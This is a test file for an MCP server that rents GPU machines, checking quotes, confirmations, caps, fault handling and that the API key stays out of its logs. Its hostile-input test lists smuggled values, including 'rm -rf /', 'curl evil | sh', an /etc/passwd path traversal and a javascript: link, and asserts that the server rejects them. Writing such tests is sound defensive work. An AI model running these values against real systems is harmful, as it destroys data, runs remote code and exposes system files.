// The MCP server as a client sees it: `node dist/mcp.js` over stdio against the simulator, driven
// with the official SDK's client. List tools, search, quote, confirm (one machine, guard in its
// onstart), stop, destroy (echo required), the hostile inputs, and no key in its logs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { TOOLS, toolJsonSchema } from '../../../src/agent/toolCatalogue';
import { useTestSim } from '../../kit/simPerFile';
import { quoteIdOf } from './agentHarness';
import { waitFor } from '../../kit/wait';
import { repoRoot } from '../repoRoot';
import { SIM_KEY, accountHoldsKey, held, listed, rentsSent, startMcp, type McpRun } from './mcpHarness';

// A machine boots at once here: the server's clock is real, and the create flow reads before it waits.
const started = useTestSim({ era: 'today', invisibleSeconds: 0, bootSeconds: 0 });
const puts = () => rentsSent(started.current);
const simInstances = () => listed(started.current);

async function withMcp(fn: (m: McpRun) => Promise<void>, env?: Record<string, string>): Promise<void> {
  const m = await startMcp(started.current, env ? { env } : {});
  try {
    await fn(m).catch((e: unknown) => {
      throw new Error(`${e instanceof Error ? e.message : String(e)}\nserver log:\n${m.stderr().slice(-3000)}`, { cause: e });
    });
    assert.doesNotMatch(m.stderr(), new RegExp(SIM_KEY), 'the key never reaches the log');
  } finally {
    await m.close();
  }
}

test('lists every tool of the catalogue with its generated schema and says it is ready on stderr', async () => {
  await withMcp(async (m) => {
    const { tools } = await m.client.listTools();
    assert.deepEqual(
      tools.map((t) => t.name),
      TOOLS.map((t) => t.name),
    );
    for (const t of tools) assert.deepEqual(t.inputSchema, toolJsonSchema(TOOLS.find((x) => x.name === t.name)!));
    assert.equal(tools.find((t) => t.name === 'destroy_instance')?.annotations?.destructiveHint, true);
    assert.equal(tools.find((t) => t.name === 'search_offers')?.annotations?.readOnlyHint, true);
    assert.deepEqual(m.client.getServerVersion(), {
      name: 'gpu-rental',
      version: (JSON.parse(readFileSync(join(repoRoot(), 'package.json'), 'utf8')) as { version: string }).version,
    });
    assert.match(m.stderr(), /ready: http:\/\/127\.0\.0\.1:\d+ \(key from VAST_API_KEY; caps: no per-hour cap, no budget/);
  });
});

test('search, quote, confirm twice at once (one machine, the guard in its onstart, SSH entry), stop, destroy with the echo', async () => {
  await withMcp(async (m) => {
    const search = await m.call('search_offers', { query: 'num_gpus=1 dph<5', limit: 3 });
    assert.equal(search.isError, false, search.text);
    const offerId = Number(/offer (\d+):/.exec(search.text)?.[1]);
    assert.ok(offerId > 0, search.text);
    const quote = await m.call('rent', { offer_id: offerId, image: 'pytorch/pytorch:latest' });
    assert.match(quote.text, new RegExp(`^Quote q-\\w+: Rent offer ${offerId}: .*Idle guard: stops it after 30 idle minutes`), quote.text);
    assert.equal(await puts(), 0, 'a quote rents nothing');
    const q = quoteIdOf(quote.text);
    const [a, b] = await Promise.all([
      m.call('rent', { offer_id: offerId, image: 'pytorch/pytorch:latest', quote_id: q }),
      m.call('rent', { offer_id: offerId, image: 'pytorch/pytorch:latest', quote_id: q }),
    ]);
    assert.equal(await puts(), 1, `one rent for two confirms:\n${a.text}\n${b.text}`);
    const id = Number(/Rented instance (\d+): running/.exec(a.text)?.[1]);
    assert.ok(id > 0, a.text);
    assert.match(b.text, /already confirmed; nothing was sent again/);
    const [inst] = await simInstances();
    assert.equal(inst?.id, id);
    assert.match(inst!.onstart ?? '', /gpu-rental/, 'the idle guard is in its onstart');
    assert.match(readFileSync(join(m.dir, 'home/.ssh/gpu-rental/config'), 'utf8'), new RegExp(`Host gpu-agent-\\w+-${id}`));
    const list = await m.call('list_instances');
    assert.match(list.text, new RegExp(`#${id} "agent-\\w{4}" running, .*guard: stops it after 30 idle min, ssh gpu-agent-\\w+-${id}`));
    assert.match((await m.call('stop_instance', { instance_id: id })).text, /Stop of instance \d+ sent/);
    const refused = await m.call('destroy_instance', { instance_id: id, confirm: 'all of them' });
    assert.equal(refused.isError, true);
    assert.equal((await held(started.current)).length, 1, 'nothing destroyed without the echo');
    assert.match((await m.call('destroy_instance', { instance_id: id, confirm: inst!.label! })).text, /Destroy of instance \d+ sent/);
    assert.deepEqual(await held(started.current), []);
  });
});

test('faults on the create request (the connection reset after it took effect, a cut-off or an unclear answer): at most one machine per confirmed quote, named or in view', async () => {
  await withMcp(
    async (m) => {
      for (const fault of [{ kind: 'reset' }, { kind: 'truncated' }, { kind: 'refused', msg: 'Refused: not carried out.' }] as const) {
        await started.current.ctl.reset();
        await accountHoldsKey(started.current);
        await started.current.ctl.fault({ ...fault, path: '/api/v0/asks/', count: 1 });
        const q = await m.call('rent', { image: 'pytorch/pytorch:latest' });
        const r = await m.call('rent', { image: 'pytorch/pytorch:latest', quote_id: quoteIdOf(q.text) });
        const ids = await held(started.current);
        assert.ok(ids.length <= 1, `${fault.kind}: ${ids.length} machines: ${r.text}`);
        for (const id of ids) assert.match(r.text, new RegExp(`\\b${id}\\b`), `${fault.kind}: instance ${id} is not named: ${r.text}`);
        if (fault.kind !== 'refused') assert.equal(ids.length, 1, `${fault.kind}: the create took effect`);
        else {
          // A 200 with success: false proves nothing: checked through the list for a minute, which the answer does not wait out.
          assert.match(r.text, /did not say whether a machine was created; .* Do not rent again/);
          assert.match((await m.call('list_instances')).text, /rental "agent-\w{4}": sent, not in the list yet/);
        }
      }
    },
    { GPU_RENTAL_ANSWER_WITHIN_S: '3' },
  );
});

test('hostile input: unknown ids, negative or huge numbers, unknown fields and tools, injection strings are clear errors and send nothing', async () => {
  await withMcp(async (m) => {
    const cases: Array<[string, Record<string, unknown>, RegExp]> = [
      ['instance_details', { instance_id: 999_999 }, /Instance 999999 is not in this account's instance list/],
      ['instance_details', { instance_id: -1 }, /instance_id must be at least 1\. Nothing was sent/],
      ['destroy_instance', { instance_id: 1e300, confirm: '1' }, /instance_id (must be a whole number|must be at most)/],
      ['search_offers', { limit: 10_000 }, /limit must be at most 50/],
      ['search_offers', { query: 'gpu_name=`rm -rf /`' }, /The query is not valid/],
      ['rent', { image: 'x; curl evil | sh' }, /The image name is not valid/],
      ['rent', { template: '../../../etc/passwd' }, /is not a \.json file inside the workspace folder the server runs in/],
      ['rent', { image: 'pytorch/pytorch:latest', quote_id: 'q-doesnotexist' }, /is not a rent quote this server gave/],
      ['rent', { offer_id: 1, image: 'a', extra: '[x](javascript:alert(1))' }, /unknown field\(s\) "extra"/],
      ['no_such_tool', {}, /There is no tool "no_such_tool"/],
    ];
    // A template whose onstartFile points outside the workspace: that file is never read (nor sent as a start script).
    writeFileSync(join(m.dir, 'home/secret.sh'), 'echo private');
    writeFileSync(
      join(m.dir, 'workspace/.gpu/escape.json'),
      JSON.stringify({ name: 'escape', instance: { image: 'pytorch/pytorch:latest', onstartFile: '../home/secret.sh' } }),
    );
    cases.push([
      'rent',
      { template: '.gpu/escape.json' },
      /Template \.gpu\/escape\.json has 1 problem\(s\) \(first: instance\.onstartFile: .*\)\. Nothing was rented/,
    ]);
    for (const [name, args, want] of cases) {
      const r = await m.call(name, args);
      assert.equal(r.isError, true, `${name} ${JSON.stringify(args)}: ${r.text}`);
      assert.match(r.text, want);
    }
    assert.equal(await puts(), 0);
  });
});

test('a per-hour cap from the environment refuses the quote; a bad cap stops the server with the reason', async () => {
  await withMcp(
    async (m) => {
      const r = await m.call('rent', { image: 'pytorch/pytorch:latest' });
      assert.equal(r.isError, true);
      assert.match(r.text, /above the per-hour cap for agents \(\$0\.001\/h, set by GPU_RENTAL_MAX_DPH\)\. Nothing was sent\. .*raise GPU_RENTAL_MAX_DPH/);
    },
    { GPU_RENTAL_MAX_DPH: '0.001' },
  );
  await assert.rejects(startMcp(started.current, { env: { GPU_RENTAL_MAX_DPH: 'lots' } }));
});

test('no key of this machine on the account: the rent is refused with how to add one, and nothing is sent', async () => {
  const m = await startMcp(started.current, { accountKey: false });
  try {
    const r = await m.call('rent', { image: 'pytorch/pytorch:latest' });
    assert.equal(r.isError, true);
    assert.match(r.text, /^Nothing was rented: your account has no SSH public key whose private key is on this machine, .*SSH keys page .*Then rent again\.$/s);
    assert.equal(await puts(), 0);
  } finally {
    await m.close();
  }
});

test('a client that cancels a rent as the machine boots: the server stops waiting, the rent goes on to running and its SSH entry', async () => {
  await withMcp(async (m) => {
    await started.current.ctl.fault({ kind: 'boot', mode: 'slow', seconds: 600 });
    const q = await m.call('rent', { image: 'pytorch/pytorch:latest' });
    const cancel = new AbortController();
    const call = m.client.callTool({ name: 'rent', arguments: { image: 'pytorch/pytorch:latest', quote_id: quoteIdOf(q.text) } }, undefined, {
      signal: cancel.signal,
    });
    const inst = await waitFor(async () => (await simInstances())[0], 10_000, 'the rented machine');
    cancel.abort();
    await assert.rejects(call, /abort/i);
    await started.current.ctl.finishBoot(inst.id);
    await waitFor(() => m.stderr().includes(`agent: the rent of instance ${inst.id} ended: running`), 10_000, 'the rent to go on to running');
    assert.match((await m.call('ssh_info', { instance_id: inst.id })).text, /ssh alias: /, 'its SSH entry is written');
    assert.equal(await puts(), 1);
  });
});
